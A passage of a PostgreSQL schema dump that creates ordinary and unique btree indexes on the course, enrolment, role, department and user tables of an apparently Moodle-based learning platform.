CREATE INDEX mdl_courmodu_gro_ix ON public.mdl_course_modules USING btree (groupingid);


--
-- Name: mdl_courmodu_idncou_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_courmodu_idncou_ix ON public.mdl_course_modules USING btree (idnumber, course);


--
-- Name: mdl_courmodu_ins_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_courmodu_ins_ix ON public.mdl_course_modules USING btree (instance);


--
-- Name: mdl_courmodu_mod_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_courmodu_mod_ix ON public.mdl_course_modules USING btree (module);


--
-- Name: mdl_courmodu_vis_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_courmodu_vis_ix ON public.mdl_course_modules USING btree (visible);


--
-- Name: mdl_courmoducomp_cou_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_courmoducomp_cou_ix ON public.mdl_course_modules_completion USING btree (coursemoduleid);


--
-- Name: mdl_courmoducomp_usecou_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_courmoducomp_usecou_uix ON public.mdl_course_modules_completion USING btree (userid, coursemoduleid);


--
-- Name: mdl_coursect_cousec_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_coursect_cousec_uix ON public.mdl_course_sections USING btree (course, section);


--
-- Name: mdl_depa_idcom_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_depa_idcom_ix ON public.mdl_department USING btree (id, company);


--
-- Name: mdl_depa_idcompar_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_depa_idcompar_ix ON public.mdl_department USING btree (id, company, parent);


--
-- Name: mdl_enro_cou_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_enro_cou_ix ON public.mdl_enrol USING btree (courseid);


--
-- Name: mdl_enro_enr_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_enro_enr_ix ON public.mdl_enrol USING btree (enrol);


--
-- Name: mdl_enro_rol_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_enro_rol_ix ON public.mdl_enrol USING btree (roleid);


--
-- Name: mdl_modu_nam_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_modu_nam_ix ON public.mdl_modules USING btree (name);


--
-- Name: mdl_role_sho_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_role_sho_uix ON public.mdl_role USING btree (shortname);


--
-- Name: mdl_role_sor_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_role_sor_uix ON public.mdl_role USING btree (sortorder);


--
-- Name: mdl_roleassi_comiteuse_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_roleassi_comiteuse_ix ON public.mdl_role_assignments USING btree (component, itemid, userid);


--
-- Name: mdl_roleassi_con_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_roleassi_con_ix ON public.mdl_role_assignments USING btree (contextid);


--
-- Name: mdl_roleassi_rol_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_roleassi_rol_ix ON public.mdl_role_assignments USING btree (roleid);


--
-- Name: mdl_roleassi_rolcon_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_roleassi_rolcon_ix ON public.mdl_role_assignments USING btree (roleid, contextid);


--
-- Name: mdl_roleassi_sor_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_roleassi_sor_ix ON public.mdl_role_assignments USING btree (sortorder);


--
-- Name: mdl_roleassi_use_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_roleassi_use_ix ON public.mdl_role_assignments USING btree (userid);


--
-- Name: mdl_roleassi_useconrol_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_roleassi_useconrol_ix ON public.mdl_role_assignments USING btree (userid, contextid, roleid);


--
-- Name: mdl_rolecapa_cap_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_rolecapa_cap_ix ON public.mdl_role_capabilities USING btree (capability);


--
-- Name: mdl_rolecapa_con_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_rolecapa_con_ix ON public.mdl_role_capabilities USING btree (contextid);


--
-- Name: mdl_rolecapa_mod_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_rolecapa_mod_ix ON public.mdl_role_capabilities USING btree (modifierid);


--
-- Name: mdl_rolecapa_rol_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_rolecapa_rol_ix ON public.mdl_role_capabilities USING btree (roleid);


--
-- Name: mdl_rolecapa_rolconcap_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_rolecapa_rolconcap_uix ON public.mdl_role_capabilities USING btree (roleid, contextid, capability);


--
-- Name: mdl_user_alt_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_alt_ix ON public.mdl_user USING btree (alternatename);


--
-- Name: mdl_user_aut_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_aut_ix ON public.mdl_user USING btree (auth);


--
-- Name: mdl_user_cit_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_cit_ix ON public.mdl_user USING btree (city);


--
-- Name: mdl_user_con_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_con_ix ON public.mdl_user USING btree (confirmed);


--
-- Name: mdl_user_cou_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_cou_ix ON public.mdl_user USING btree (country);


--
-- Name: mdl_user_del_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_del_ix ON public.mdl_user USING btree (deleted);


--
-- Name: mdl_user_ema_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_ema_ix ON public.mdl_user USING btree (email);


--
-- Name: mdl_user_fir2_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_fir2_ix ON public.mdl_user USING btree (firstnamephonetic);


--
-- Name: mdl_user_fir_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_fir_ix ON public.mdl_user USING btree (firstname);


--
-- Name: mdl_user_idn_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_idn_ix ON public.mdl_user USING btree (idnumber);


--
-- Name: mdl_user_las2_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_las2_ix ON public.mdl_user USING btree (lastaccess);


--
-- Name: mdl_user_las3_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_las3_ix ON public.mdl_user USING btree (lastnamephonetic);


--
-- Name: mdl_user_las_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_las_ix ON public.mdl_user USING btree (lastname);


--
-- Name: mdl_user_mid_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_user_mid_ix ON public.mdl_user USING btree (middlename);


--
-- Name: mdl_user_mneuse_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_user_mneuse_uix ON public.mdl_user USING btree (mnethostid, username);


--
-- Name: mdl_userenro_enr_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_userenro_enr_ix ON public.mdl_user_enrolments USING btree (enrolid);


--
-- Name: mdl_userenro_enruse_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_userenro_enruse_uix ON public.mdl_user_enrolments USING btree (enrolid, userid);


--
-- Name: mdl_userenro_mod_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_userenro_mod_ix ON public.mdl_user_enrolments USING btree (modifierid);


--
-- Name: mdl_userenro_use_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_userenro_use_ix ON public.mdl_user_enrolments USING btree (userid);


